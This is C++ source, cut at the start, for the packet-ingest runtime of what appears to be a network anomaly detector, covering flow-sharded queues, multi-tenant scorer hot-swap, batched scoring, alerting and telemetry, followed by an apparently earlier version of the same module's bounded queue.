  };
  const auto mac48 = [b](size_t off) {
    uint64_t v = 0;
    for (size_t i = 0; i < 6; ++i) v = (v << 8) | b[off + i];
    return v;
  };
  if (link_ == netio::LinkType::kEthernet) {
    // IPv4 frame: the order-independent IP-pair channel key, canonicalized
    // exactly like core/kitsune_extractor.cpp (low address first), hashed
    // with FlatMap's splitmix64 finalizer. Byte offsets per netio/parse.cpp:
    // ether_type at 12, IPv4 src/dst at 26/30 (14-byte Ethernet header).
    if (n >= 34 && be16(12) == 0x0800) {
      const uint32_t src = be32(26);
      const uint32_t dst = be32(30);
      const bool fwd = src <= dst;
      const uint32_t ip_a = fwd ? src : dst;
      const uint32_t ip_b = fwd ? dst : src;
      return hash_u64((uint64_t{ip_a} << 32) | ip_b);
    }
    // Non-IP frame: the extractor only keeps MAC-level context for these,
    // so the source MAC (bytes 6..11) is their whole flow identity.
    if (n >= 12) return hash_u64(mac48(6));
    return 0;  // too short to parse; lands on shard 0 and is skipped there
  }
  // 802.11: the transmitter address (addr2, bytes 10..15) is what
  // netio/parse.cpp reports as the source MAC.
  if (n >= 16) return hash_u64(mac48(10));
  return 0;
}

IngestRuntime::Options IngestRuntime::Options::normalized(
    Options opts, std::string* diagnostic) {
  OptionNormalizer norm("ingest");
  norm.clamp(opts.queue_capacity, size_t{1}, size_t{1} << 24,
             "queue_capacity");
  norm.clamp(opts.consumers, size_t{1}, size_t{256}, "consumers");
  // shards = 0 selects single-queue mode, so only the upper bound applies.
  norm.clamp(opts.shards, size_t{0}, size_t{256}, "shards");
  norm.clamp(opts.consumer_batch, size_t{1}, size_t{65536}, "consumer_batch");
  norm.clamp(opts.score_batch, size_t{1}, size_t{65536}, "score_batch");
  // SPSC shard rings cannot evict their head, so kDropOldest has no
  // sharded implementation; rewrite to the policy that exists and say so
  // (the constructor also bumps `<prefix>policy_degraded`).
  if (opts.shards > 0 && opts.overflow == OverflowPolicy::kDropOldest) {
    norm.replace(opts.overflow, OverflowPolicy::kDropNewest, "overflow",
                 "kDropOldest", "kDropNewest (SPSC shard rings cannot evict)");
  }
  norm.emit(diagnostic);
  return opts;
}

namespace {

/// PacketFeed over the shared mutex+condvar queue (single-queue mode).
class QueueFeed : public PacketFeed {
 public:
  explicit QueueFeed(BoundedPacketQueue& q) : q_(q) {}
  size_t claim(std::vector<netio::SourcePacket>& out, size_t max) override {
    return q_.pop_batch(out, max);
  }

 private:
  BoundedPacketQueue& q_;
};

/// PacketFeed over one shard's private SPSC ring (sharded mode).
class RingFeed : public PacketFeed {
 public:
  explicit RingFeed(SpscRing<netio::SourcePacket>& r) : r_(r) {}
  size_t claim(std::vector<netio::SourcePacket>& out, size_t max) override {
    for (;;) {
      if (!r_.wait_nonempty()) return 0;  // closed and drained
      const size_t n = r_.try_pop(out, max == 0 ? 1 : max);
      if (n != 0) return n;
    }
  }

 private:
  SpscRing<netio::SourcePacket>& r_;
};

/// Producer-side FrameFeed over the shared queue (single-queue mode): the
/// non-blocking face any SourceDriver pushes through. Counts enqueued on
/// every accepted/shed packet — exactly where the old producer loop did.
class QueueFrameFeed : public netio::FrameFeed {
 public:
  QueueFrameFeed(BoundedPacketQueue& q, telemetry::Counter& enqueued,
                 telemetry::Counter& dropped)
      : q_(q), enqueued_(enqueued), dropped_(dropped) {}

  netio::FeedStatus offer(netio::SourcePacket& p) override {
    const netio::FeedStatus s = q_.offer(std::move(p));
    if (s == netio::FeedStatus::kAccepted || s == netio::FeedStatus::kShed)
      enqueued_.add(1);
    return s;
  }
  bool wait_ready() override { return q_.wait_notfull(); }
  void account_shed(uint64_t n) override {
    // Frames the front-end shed before they reached the queue: count them
    // enqueued AND dropped so conservation spans the socket path.
    enqueued_.add(n);
    dropped_.add(n);
  }

 private:
  BoundedPacketQueue& q_;
  telemetry::Counter& enqueued_;
  telemetry::Counter& dropped_;
};

/// Producer-side FrameFeed over the shard router + SPSC rings: routes each
/// offered frame by flow hash, then try-pushes into the owning ring.
/// Mirrors per-shard routed counts into telemetry in periodic flushes via
/// the caller-supplied closure, never per packet.
class ShardFrameFeed : public netio::FrameFeed {
 public:
  ShardFrameFeed(const FlowShardRouter& router,
                 std::vector<std::unique_ptr<SpscRing<netio::SourcePacket>>>&
                     rings,
                 OverflowPolicy policy, telemetry::Counter& enqueued,
                 telemetry::Counter& dropped, std::vector<uint64_t>& routed,
                 std::function<void()> flush_telemetry)
      : router_(router),
        rings_(rings),
        policy_(policy),
        enqueued_(enqueued),
        dropped_(dropped),
        routed_(routed),
        flush_telemetry_(std::move(flush_telemetry)) {}

  netio::FeedStatus offer(netio::SourcePacket& p) override {
    const size_t s = router_.shard_of(p.pkt);
    SpscRing<netio::SourcePacket>& ring = *rings_[s];
    if (ring.try_push(&p, 1) == 1) {
      account(s);
      return netio::FeedStatus::kAccepted;
    }
    if (ring.closed()) return netio::FeedStatus::kClosed;
    if (policy_ == OverflowPolicy::kBlock) {
      busy_shard_ = s;
      return netio::FeedStatus::kBusy;
    }
    // kDropNewest (kDropOldest was rewritten at normalization): shed the
    // incoming packet, still counted enqueued + routed like the old loop.
    dropped_.add(1);
    account(s);
    return netio::FeedStatus::kShed;
  }
  bool wait_ready() override {
    return rings_[busy_shard_]->wait_notfull();
  }
  void account_shed(uint64_t n) override {
    enqueued_.add(n);
    dropped_.add(n);
  }

 private:
  void account(size_t shard) {
    enqueued_.add(1);
    ++routed_[shard];
    if (++since_flush_ >= 8192) {
      since_flush_ = 0;
      if (flush_telemetry_) flush_telemetry_();
    }
  }

  const FlowShardRouter& router_;
  std::vector<std::unique_ptr<SpscRing<netio::SourcePacket>>>& rings_;
  OverflowPolicy policy_;
  telemetry::Counter& enqueued_;
  telemetry::Counter& dropped_;
  std::vector<uint64_t>& routed_;
  std::function<void()> flush_telemetry_;
  size_t busy_shard_ = 0;
  uint64_t since_flush_ = 0;
};

}  // namespace

IngestRuntime::IngestRuntime(Options opts, ScorerFactory factory,
                             AlertSink* sink)
    : sink_(sink) {
  const bool policy_degraded =
      opts.shards > 0 && opts.overflow == OverflowPolicy::kDropOldest;
  std::string diag;
  opts_ = Options::normalized(std::move(opts), &diag);
  if (!diag.empty()) std::cerr << diag << "\n";
  scorer_slot_ = std::make_unique<ModelSlot<ScorerFactory>>(
      std::make_unique<ScorerFactory>(std::move(factory)),
      effective_consumers());
  // Core accounting always lives in registry counters (the IngestStats
  // façade reads them back); the extended instruments — queue gauges and
  // per-stage latency histograms, with their clock reads — only run when
  // the embedder gave us a registry to publish into.
  extended_ = opts_.registry != nullptr;
  reg_ = extended_ ? opts_.registry : &local_reg_;
  const std::string& p = opts_.instrument_prefix;
  enqueued_ = &reg_->counter(p + "enqueued");
  dropped_ = &reg_->counter(p + "dropped");
  parse_skipped_ = &reg_->counter(p + "parse_skipped");
  scored_ = &reg_->counter(p + "scored");
  alerted_ = &reg_->counter(p + "alerted");
  swaps_applied_ = &reg_->counter(p + "swaps_applied");
  policy_degraded_ = &reg_->counter(p + "policy_degraded");
  if (policy_degraded) policy_degraded_->add(1);
  if (extended_) {
    queue_depth_ = &reg_->gauge(p + "queue.depth");
    queue_high_water_ = &reg_->gauge(p + "queue.high_water");
    extract_ns_ = &reg_->histogram(p + "stage.extract_ns");
    score_ns_ = &reg_->histogram(p + "stage.score_ns");
    flush_ns_ = &reg_->histogram(p + "stage.flush_ns");
    score_batch_rows_ = &reg_->histogram(p + "score.batch_rows");
    if (opts_.shards > 0) {
      shard_instruments_.resize(opts_.shards);
      for (size_t i = 0; i < opts_.shards; ++i) {
        const std::string sp = p + "shard" + std::to_string(i) + ".";
        shard_instruments_[i] =
            ShardInstruments{&reg_->counter(sp + "routed"),
                             &reg_->counter(sp + "scored"),
                             &reg_->counter(sp + "alerted"),
                             &reg_->counter(sp + "parse_skipped"),
                             &reg_->gauge(sp + "ring.high_water")};
      }
    }
  }
  // stats() before the first run() must read zero even when another
  // runtime already bumped these (shared registry, shared prefix).
  base_ = Baseline{enqueued_->value(), dropped_->value(),
                   parse_skipped_->value(), scored_->value(),
                   alerted_->value()};
}

IngestRuntime::IngestRuntime(Options opts, StreamPipelineFactory factory,
                             EpochSink* sink)
    : IngestRuntime(std::move(opts), ScorerFactory{}, nullptr) {
  pipeline_factory_ = std::move(factory);
  epoch_sink_ = sink;
}

void IngestRuntime::deploy(ScorerFactory factory) {
  scorer_slot_->publish(std::make_unique<ScorerFactory>(std::move(factory)));
}

bool IngestRuntime::register_tenant(uint32_t tenant, ScorerFactory factory) {
  if (tenant == 0 || !factory) return false;
  if (running_.load(std::memory_order_acquire)) return false;
  auto [it, inserted] = tenants_.try_emplace(tenant);
  if (!inserted) return false;
  it->second.slot = std::make_unique<ModelSlot<ScorerFactory>>(
      std::make_unique<ScorerFactory>(std::move(factory)),
      effective_consumers());
  const std::string tp =
      opts_.instrument_prefix + "tenant" + std::to_string(tenant) + ".";
  it->second.scored = &reg_->counter(tp + "scored");
  it->second.alerted = &reg_->counter(tp + "alerted");
  it->second.swaps_applied = &reg_->counter(tp + "swaps_applied");
  return true;
}

bool IngestRuntime::deploy(uint32_t tenant, ScorerFactory factory) {
  if (tenant == 0) {
    deploy(std::move(factory));
    return true;
  }
  auto it = tenants_.find(tenant);
  if (it == tenants_.end()) return false;
  it->second.slot->publish(
      std::make_unique<ScorerFactory>(std::move(factory)));
  return true;
}

void IngestRuntime::consume(size_t id, PacketFeed& feed,
                            std::unique_ptr<PacketScorer> scorer,
                            uint64_t scorer_version, netio::LinkType link) {
  // Everything below is consumer-local until the per-batch flush: packets
  // are claimed in batches (one queue lock / ring publication per batch),
  // scored without any shared state, and sink records plus stats counters
  // are published once per batch. Buffers are reused across batches, so
  // the steady-state loop performs no allocation. Telemetry is also
  // per-batch — four clock reads and a handful of relaxed adds per batch,
  // never per packet.
  using Clock = std::chrono::steady_clock;
  const auto ns_between = [](Clock::time_point a, Clock::time_point b) {
    return std::chrono::duration<double, std::nano>(b - a).count();
  };
  struct Scored {
    netio::PacketView view;
    double score = 0.0;
    double threshold = 0.0;
    bool alerted = false;
    uint32_t tenant = 0;
  };
  /// A consumer's scoring state for one tenant: its own scorer instance
  /// (isolated streaming state) tracking its own hot-swap slot. Tenant 0
  /// seeds from the scorer run() built; other tenants build lazily on
  /// first packet — from their registered slot, or from the default slot
  /// for unregistered ids (isolated instance, shared factory).
  struct TenantCtx {
    std::unique_ptr<PacketScorer> scorer;
    uint64_t version = 0;
    ModelSlot<ScorerFactory>* slot = nullptr;
    TenantState* state = nullptr;  // registered tenants only
  };
  std::unordered_map<uint32_t, TenantCtx> ctxs;
  {
    TenantCtx c0;
    c0.scorer = std::move(scorer);
    c0.version = scorer_version;
    c0.slot = scorer_slot_.get();
    ctxs.emplace(0, std::move(c0));
  }
  // Hot-swap check at the batch boundary, per tenant seen in the batch: a
  // ModelSlot pin is two atomic loads plus one store — the cost of
  // noticing a deploy() — and the rebuild only runs when the observed
  // epoch moved, so swapping tenant A never rebuilds tenant B.
  const auto pin_ctx = [&](uint32_t t) -> TenantCtx& {
    auto it = ctxs.find(t);
    if (it == ctxs.end()) {
      TenantCtx c;
      c.slot = scorer_slot_.get();
      auto reg = tenants_.find(t);
      if (reg != tenants_.end()) {
        c.slot = reg->second.slot.get();
        c.state = &reg->second;
      }
      const auto pinned = c.slot->pin(id);
      c.scorer = (*pinned.value)(id);
      if (!c.scorer) {
        throw std::runtime_error("ingest: scorer factory returned null for "
                                 "tenant " +
                                 std::to_string(t) + ", consumer " +
                                 std::to_string(id));
      }
      c.version = pinned.version;
      it = ctxs.emplace(t, std::move(c)).first;
      return it->second;
    }
    TenantCtx& c = it->second;
    const auto pinned = c.slot->pin(id);
    if (pinned.version != c.version) {
      auto next = (*pinned.value)(id);
      if (!next) {
        throw std::runtime_error(
            "ingest: hot-swapped scorer factory returned null for "
            "consumer " +
            std::to_string(id));
      }
      c.scorer = std::move(next);
      c.version = pinned.version;
      swaps_applied_->add(1);
      if (c.state != nullptr) c.state->swaps_applied->add(1);
    }
    return c;
  };
  ShardInstruments* si =
      id < shard_instruments_.size() ? &shard_instruments_[id] : nullptr;
  std::vector<netio::SourcePacket> batch;
  std::vector<netio::PacketView> parsed;
  std::vector<uint32_t> tenant_of;      // aligned with parsed
  std::vector<uint32_t> batch_tenants;  // distinct, first-appearance order
  std::vector<uint64_t> t_scored, t_alerted;  // aligned with batch_tenants
  std::vector<double> scores;
  std::vector<double> thresholds;  // aligned with parsed (mixed path only)
  std::vector<netio::PacketView> scratch_views;
  std::vector<double> scratch_scores;
  std::vector<size_t> scratch_idx;
  std::vector<Scored> pending;
  batch.reserve(opts_.consumer_batch);
  parsed.reserve(opts_.consumer_batch);
  tenant_of.reserve(opts_.consumer_batch);
  scores.reserve(opts_.consumer_batch);
  pending.reserve(opts_.consumer_batch);
  while (feed.claim(batch, opts_.consumer_batch) > 0) {
    batch_tenants.clear();
    for (const netio::SourcePacket& sp : batch) {
      if (std::find(batch_tenants.begin(), batch_tenants.end(), sp.tenant) ==
          batch_tenants.end())
        batch_tenants.push_back(sp.tenant);
    }
    for (uint32_t t : batch_tenants) pin_ctx(t);
    uint64_t skipped = 0, scored = 0, alerted = 0;
    Clock::time_point t0, t1, t2;
    // Stage 1 — extract: parse the whole batch (views borrow the packet
    // bytes in `batch`, which outlives the flush below).
    if (extended_) t0 = Clock::now();
    parsed.clear();
    tenant_of.clear();
    for (netio::SourcePacket& sp : batch) {
      auto p = netio::parse_packet(sp.pkt, link, sp.capture_index);
      if (!p.ok()) {
        ++skipped;
        continue;
      }
      parsed.push_back(p.value());
      tenant_of.push_back(sp.tenant);
    }
    if (extended_) t1 = Clock::now();
    // Stage 2 — score, in consumption order (scorer state is per-consumer
    // per-tenant). The claimed batch is scored in score_batch-row
    // micro-batches through the fused PacketScorer::score_batch path;
    // per-packet alert ordering is preserved because scores land
    // positionally in `scores` and the alert/sink pass below walks them in
    // consumption order. A tail chunk is just a smaller micro-batch — the
    // batch-invariance contract makes its scores identical either way.
    scores.resize(parsed.size());
    const bool single_tenant = batch_tenants.size() <= 1;
    double uniform_threshold = 0.0;
    if (single_tenant) {
      // Fast path (a replay run, or a gateway serving one tenant): exactly
      // the historic single-scorer batch loop, bit for bit.
      PacketScorer& sc =
          *ctxs.at(batch_tenants.empty() ? 0 : batch_tenants[0]).scorer;
      for (size_t lo = 0; lo < parsed.size(); lo += opts_.score_batch) {
        const size_t n = std::min(opts_.score_batch, parsed.size() - lo);
        sc.score_batch(
            std::span<const netio::PacketView>(parsed.data() + lo, n),
            scores.data() + lo);
        if (extended_) score_batch_rows_->record(static_cast<double>(n));
      }
      uniform_threshold = sc.threshold();
    } else {
      // Mixed batch: partition by tenant preserving each tenant's arrival
      // order, score each partition contiguously through that tenant's
      // scorer, and scatter results back positionally. Equivalent to
      // having claimed each tenant's packets in separate batches.
      thresholds.resize(parsed.size());
      for (uint32_t t : batch_tenants) {
        scratch_idx.clear();
        scratch_views.clear();
        for (size_t i = 0; i < parsed.size(); ++i) {
          if (tenant_of[i] != t) continue;
          scratch_idx.push_back(i);
          scratch_views.push_back(parsed[i]);
        }
        if (scratch_idx.empty()) continue;  // all of t's packets skipped
        TenantCtx& ctx = ctxs.at(t);
        scratch_scores.resize(scratch_views.size());
        for (size_t lo = 0; lo < scratch_views.size();
             lo += opts_.score_batch) {
          const size_t n =
              std::min(opts_.score_batch, scratch_views.size() - lo);
          ctx.scorer->score_batch(
              std::span<const netio::PacketView>(scratch_views.data() + lo,
                                                 n),
              scratch_scores.data() + lo);
          if (extended_) score_batch_rows_->record(static_cast<double>(n));
        }
        const double thr = ctx.scorer->threshold();
        for (size_t k = 0; k < scratch_idx.size(); ++k) {
          scores[scratch_idx[k]] = scratch_scores[k];
          thresholds[scratch_idx[k]] = thr;
        }
      }
    }
    t_scored.assign(batch_tenants.size(), 0);
    t_alerted.assign(batch_tenants.size(), 0);
    uint32_t run_tenant = 0;
    size_t run_ti = 0;
    bool run_valid = false;
    for (size_t i = 0; i < parsed.size(); ++i) {
      const netio::PacketView& view = parsed[i];
      const double score = scores[i];
      const double threshold =
          single_tenant ? uniform_threshold : thresholds[i];
      const bool is_alert = score > threshold;
      ++scored;
      if (is_alert) ++alerted;
      const uint32_t t = tenant_of[i];
      if (!run_valid || t != run_tenant) {
        run_tenant = t;
        run_ti = static_cast<size_t>(
            std::find(batch_tenants.begin(), batch_tenants.end(), t) -
            batch_tenants.begin());
        run_valid = true;
      }
      ++t_scored[run_ti];
      if (is_alert) ++t_alerted[run_ti];
      if (sink_ != nullptr) {
        pending.push_back(Scored{view, score, threshold, is_alert, t});
      }
    }
    if (extended_) t2 = Clock::now();
    if (skipped != 0) parse_skipped_->add(skipped);
    if (scored != 0) scored_->add(scored);
    if (alerted != 0) alerted_->add(alerted);
    for (size_t ti = 0; ti < batch_tenants.size(); ++ti) {
      TenantState* ts = ctxs.at(batch_tenants[ti]).state;
      if (ts == nullptr) continue;
      if (t_scored[ti] != 0) ts->scored->add(t_scored[ti]);
      if (t_alerted[ti] != 0) ts->alerted->add(t_alerted[ti]);
    }
    if (si != nullptr) {
      if (skipped != 0) si->parse_skipped->add(skipped);
      if (scored != 0) si->scored->add(scored);
      if (alerted != 0) si->alerted->add(alerted);
    }
    // Stage 3 — flush the batch's sink records.
    if (!pending.empty()) {
      std::lock_guard<std::mutex> lock(sink_mu_);
      for (const Scored& p : pending) {
        sink_->on_packet(p.view, p.score, p.alerted);
        if (p.alerted) {
          sink_->on_alert(Alert{p.view.ts, p.view.index, p.score,
                                p.threshold, id, p.tenant});
        }
      }
    }
    pending.clear();
    if (extended_) {
      const Clock::time_point t3 = Clock::now();
      // extract/score samples are the batch's mean per-packet cost; flush
      // is the whole batch's sink hand-off (it is per-batch by design).
      if (!batch.empty()) {
        extract_ns_->record(ns_between(t0, t1) /
                            static_cast<double>(batch.size()));
      }
      if (!parsed.empty()) {
        score_ns_->record(ns_between(t1, t2) /
                          static_cast<double>(parsed.size()));
      }
      flush_ns_->record(ns_between(t2, t3));
    }
  }
}

void IngestRuntime::consume_pipeline(size_t id, PacketFeed& feed,
                                     StreamPipeline& pipe,
                                     netio::LinkType link) {
  // Same staged batch loop as consume(), but the scoring stage feeds the
  // compiled operator chain: the chain's own state machinery (group
  // directories, window clocks, accumulators) replaces the PacketScorer.
  // Epoch emission happens synchronously inside pipe.push/finish via the
  // callback installed in run(); everything else is consumer-local.
  using Clock = std::chrono::steady_clock;
  const auto ns_between = [](Clock::time_point a, Clock::time_point b) {
    return std::chrono::duration<double, std::nano>(b - a).count();
  };
  ShardInstruments* si =
      id < shard_instruments_.size() ? &shard_instruments_[id] : nullptr;
  std::vector<netio::SourcePacket> batch;
  std::vector<netio::PacketView> parsed;
  batch.reserve(opts_.consumer_batch);
  parsed.reserve(opts_.consumer_batch);
  while (feed.claim(batch, opts_.consumer_batch) > 0) {
    uint64_t skipped = 0;
    Clock::time_point t0, t1, t2;
    if (extended_) t0 = Clock::now();
    parsed.clear();
    for (netio::SourcePacket& sp : batch) {
      auto p = netio::parse_packet(sp.pkt, link, sp.capture_index);
      if (!p.ok()) {
        ++skipped;
        continue;
      }
      parsed.push_back(p.value());
    }
    if (extended_) t1 = Clock::now();
    for (const netio::PacketView& view : parsed) pipe.push(view);
    if (extended_) t2 = Clock::now();
    if (skipped != 0) parse_skipped_->add(skipped);
    if (!parsed.empty()) scored_->add(parsed.size());
    if (si != nullptr) {
      if (skipped != 0) si->parse_skipped->add(skipped);
      if (!parsed.empty()) si->scored->add(parsed.size());
    }
    if (extended_) {
      if (!batch.empty()) {
        extract_ns_->record(ns_between(t0, t1) /
                            static_cast<double>(batch.size()));
      }
      if (!parsed.empty()) {
        score_ns_->record(ns_between(t1, t2) /
                          static_cast<double>(parsed.size()));
      }
    }
  }
  // End of stream: flush the chain's open windows/micro-batches.
  pipe.finish();
}

Result<IngestStats> IngestRuntime::drive(
    netio::SourceDriver& driver,
    const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
        consumer_body) {
  // Per-run façade semantics over cumulative instruments: re-baseline now.
  base_ = Baseline{enqueued_->value(), dropped_->value(),
                   parse_skipped_->value(), scored_->value(),
                   alerted_->value()};
  high_water_snapshot_ = 0;
  stop_.store(false);
  running_.store(true, std::memory_order_release);
  auto result = opts_.shards > 0 ? drive_sharded(driver, consumer_body)
                                 : drive_single_queue(driver, consumer_body);
  running_.store(false, std::memory_order_release);
  return result;
}

Result<IngestStats> IngestRuntime::drive_single_queue(
    netio::SourceDriver& driver,
    const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
        consumer_body) {
  BoundedPacketQueue queue(opts_.queue_capacity, opts_.overflow);
  if (extended_) {
    // The queue gauges describe THIS run's queue: reset them before
    // attaching, or a reused runtime (or a second runtime sharing the
    // registry and prefix) keeps publishing the previous run's high-water
    // mark — update_max never comes back down on its own.
    queue_depth_->set(0.0);
    queue_high_water_->set(0.0);
    // Live queue instruments: depth, high-water, and drops update under
    // the queue's own lock, so scrapers see them mid-run (the historic
    // snapshots only materialized after run() returned).
    queue.attach_telemetry(queue_depth_, queue_high_water_, dropped_);
  }
  const netio::LinkType link = driver.link();
  QueueFeed feed(queue);

  // Consumers follow the parallel.h exception convention: the first failure
  // is captured and rethrown on the caller once every thread has joined.
  std::vector<std::exception_ptr> errors(opts_.consumers);
  std::vector<std::thread> threads;
  threads.reserve(opts_.consumers);
  for (size_t c = 0; c < opts_.consumers; ++c) {
    threads.emplace_back([c, &queue, &feed, &errors, link, &consumer_body] {
      try {
        consumer_body(c, feed, link);
      } catch (...) {
        errors[c] = std::current_exception();
        queue.close();  // don't leave the producer blocked on a dead run
      }
    });
  }

  // The driver runs on the calling thread, pushing through the feed; a
  // closed queue (consumer death) surfaces as kClosed and the driver
  // returns, exactly where the old push loop broke.
  QueueFrameFeed ffeed(queue, *enqueued_, *dropped_);
  Result<void> driven = driver.drive(ffeed, stop_);
  queue.close();
  for (auto& t : threads) t.join();

  // With attached telemetry the queue streamed drops into the counter
  // live; otherwise fold them in now.
  if (!extended_) dropped_->add(queue.dropped());
  high_water_snapshot_ = queue.high_water();
  for (auto& err : errors) {
    if (err) std::rethrow_exception(err);
  }
  if (!driven.ok()) return driven.error();
  return stats();
}

Result<IngestStats> IngestRuntime::drive_sharded(
    netio::SourceDriver& driver,
    const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
        consumer_body) {
  const size_t n_shards = opts_.shards;
  const netio::LinkType link = driver.link();
  FlowShardRouter router(n_shards, link);

  std::vector<std::unique_ptr<SpscRing<netio::SourcePacket>>> rings;
  std::vector<RingFeed> feeds;
  rings.reserve(n_shards);
  feeds.reserve(n_shards);
  for (size_t i = 0; i < n_shards; ++i) {
    rings.push_back(
        std::make_unique<SpscRing<netio::SourcePacket>>(opts_.queue_capacity));
    feeds.emplace_back(*rings.back());
  }
  if (extended_) {
    // Same reset-before-run contract as the single-queue gauges; in this
    // mode queue.high_water reports the max ring high-water across shards.
    queue_depth_->set(0.0);
    queue_high_water_->set(0.0);
    for (ShardInstruments& si : shard_instruments_) {
      si.ring_high_water->set(0.0);
    }
  }

  std::vector<std::exception_ptr> errors(n_shards);
  std::vector<std::thread> threads;
  threads.reserve(n_shards);
  for (size_t c = 0; c < n_shards; ++c) {
    threads.emplace_back([c, &feeds, &rings, &errors, link, &consumer_body] {
      try {
        consumer_body(c, feeds[c], link);
      } catch (...) {
        errors[c] = std::current_exception();
        // Close every ring: siblings drain and exit, and the producer
        // stops instead of feeding a dead run (mirrors queue.close()).
        for (auto& r : rings) r->close();
      }
    });
  }

  // The driver runs on the calling thread; the shard feed routes each
  // offered frame by flow hash into the owning ring. Per-shard routed
  // counts and ring high-water marks are mirrored into telemetry in
  // periodic flushes, never per packet.
  std::vector<uint64_t> routed(n_shards, 0);
  std::vector<uint64_t> routed_flushed(n_shards, 0);
  const auto flush_shard_telemetry = [&] {
    for (size_t i = 0; i < shard_instruments_.size(); ++i) {
      if (routed[i] != routed_flushed[i]) {
        shard_instruments_[i].routed->add(routed[i] - routed_flushed[i]);
        routed_flushed[i] = routed[i];
      }
      shard_instruments_[i].ring_high_water->update_max(
          static_cast<double>(rings[i]->high_water()));
    }
  };
  ShardFrameFeed ffeed(router, rings, opts_.overflow, *enqueued_, *dropped_,
                       routed, flush_shard_telemetry);
  Result<void> driven = driver.drive(ffeed, stop_);
  for (auto& r : rings) r->close();
  for (auto& t : threads) t.join();

  size_t hw = 0;
  for (const auto& r : rings) hw = std::max(hw, r->high_water());
  high_water_snapshot_ = hw;
  flush_shard_telemetry();
  if (extended_) queue_high_water_->update_max(static_cast<double>(hw));
  for (auto& err : errors) {
    if (err) std::rethrow_exception(err);
  }
  if (!driven.ok()) return driven.error();
  return stats();
}

Result<IngestStats> IngestRuntime::run(netio::PacketSource& source) {
  netio::ReplayDriver driver(source);
  return run(driver);
}

Result<IngestStats> IngestRuntime::run(netio::SourceDriver& driver) {
  const size_t n_consumers = effective_consumers();
  if (pipeline_factory_) {
    std::vector<std::unique_ptr<StreamPipeline>> pipes;
    pipes.reserve(n_consumers);
    for (size_t c = 0; c < n_consumers; ++c) {
      pipes.push_back(pipeline_factory_(c));
      if (!pipes.back()) {
        return Error::make(
            "ingest",
            "pipeline factory returned null for consumer " + std::to_string(c));
      }
      pipes.back()->set_callback([this, c](EpochBatch&& b) {
        uint64_t alerts = 0;
        for (const int p : b.predictions) alerts += p != 0 ? 1 : 0;
        if (alerts != 0) {
          alerted_->add(alerts);
          if (c < shard_instruments_.size()) {
            shard_instruments_[c].alerted->add(alerts);
          }
        }
        if (epoch_sink_ != nullptr) {
          std::lock_guard<std::mutex> lock(sink_mu_);
          epoch_sink_->on_epoch(b, c);
        }
      });
    }
    return drive(driver,
                 [this, &pipes](size_t id, PacketFeed& feed,
                                netio::LinkType link) {
                   consume_pipeline(id, feed, *pipes[id], link);
                 });
  }

  // Build each consumer's initial scorer from the currently-deployed
  // factory, announcing the build epoch so consume() only rebuilds when
  // deploy() publishes something newer.
  std::vector<std::unique_ptr<PacketScorer>> scorers;
  std::vector<uint64_t> versions;
  scorers.reserve(n_consumers);
  versions.reserve(n_consumers);
  for (size_t c = 0; c < n_consumers; ++c) {
    const auto pinned = scorer_slot_->pin(c);
    scorers.push_back((*pinned.value)(c));
    versions.push_back(pinned.version);
    if (!scorers.back()) {
      return Error::make("ingest", "scorer factory returned null for consumer " +
                                       std::to_string(c));
    }
  }
  return drive(driver,
               [this, &scorers, &versions](size_t id, PacketFeed& feed,
                                           netio::LinkType link) {
                 consume(id, feed, std::move(scorers[id]), versions[id], link);
               });
}

IngestStats IngestRuntime::stats() const {
  IngestStats s;
  s.enqueued = enqueued_->value() - base_.enqueued;
  s.dropped = dropped_->value() - base_.dropped;
  s.parse_skipped = parse_skipped_->value() - base_.parse_skipped;
  s.scored = scored_->value() - base_.scored;
  s.alerted = alerted_->value() - base_.alerted;
  s.queue_high_water = high_water_snapshot_;
  return s;
}

}  // namespace lumen::core
