#include "core/ingest.h"

#include <exception>
#include <thread>
#include <utility>

#include "netio/parse.h"

namespace lumen::core {

BoundedPacketQueue::BoundedPacketQueue(size_t capacity, OverflowPolicy policy)
    : capacity_(capacity == 0 ? 1 : capacity), policy_(policy) {}

bool BoundedPacketQueue::push(netio::SourcePacket p) {
  std::unique_lock<std::mutex> lock(mu_);
  if (policy_ == OverflowPolicy::kBlock) {
    not_full_.wait(lock,
                   [this] { return q_.size() < capacity_ || closed_; });
    if (closed_) return false;
  } else if (q_.size() >= capacity_) {
    if (closed_) return false;
    q_.pop_front();
    ++dropped_;
  } else if (closed_) {
    return false;
  }
  const bool was_empty = q_.empty();
  q_.push_back(std::move(p));
  high_water_ = std::max(high_water_, q_.size());
  lock.unlock();
  // Consumers only sleep on an empty queue, so only the empty->non-empty
  // transition needs a wakeup; steady-state pushes skip the notify.
  if (was_empty) not_empty_.notify_one();
  return true;
}

bool BoundedPacketQueue::pop(netio::SourcePacket& out) {
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return false;  // closed and drained
  const bool was_full = q_.size() >= capacity_;
  out = std::move(q_.front());
  q_.pop_front();
  const bool still_nonempty = !q_.empty();
  lock.unlock();
  if (was_full) not_full_.notify_one();
  if (still_nonempty) not_empty_.notify_one();
  return true;
}

size_t BoundedPacketQueue::pop_batch(std::vector<netio::SourcePacket>& out,
                                     size_t max) {
  out.clear();
  if (max == 0) max = 1;
  std::unique_lock<std::mutex> lock(mu_);
  not_empty_.wait(lock, [this] { return !q_.empty() || closed_; });
  if (q_.empty()) return 0;  // closed and drained
  const bool was_full = q_.size() >= capacity_;
  const size_t n = std::min(max, q_.size());
  for (size_t i = 0; i < n; ++i) {
    out.push_back(std::move(q_.front()));
    q_.pop_front();
  }
  const bool still_nonempty = !q_.empty();
  lock.unlock();
  // A blocked producer only waits while the queue is at capacity.
  if (was_full) not_full_.notify_one();
  // If packets remain, another consumer can run concurrently; hand the
  // wakeup on since push() only notifies on the empty->non-empty edge.
  if (still_nonempty) not_empty_.notify_one();
  return n;
}

void BoundedPacketQueue::close() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    closed_ = true;
  }
  not_full_.notify_all();
  not_empty_.notify_all();
}

uint64_t BoundedPacketQueue::dropped() const {
  std::lock_guard<std::mutex> lock(mu_);
  return dropped_;
}

size_t BoundedPacketQueue::high_water() const {
  std::lock_guard<std::mutex> lock(mu_);
  return high_water_;
}

IngestRuntime::IngestRuntime(Options opts, ScorerFactory factory,
                             AlertSink* sink)
    : opts_(opts), factory_(std::move(factory)), sink_(sink) {
  if (opts_.consumers == 0) opts_.consumers = 1;
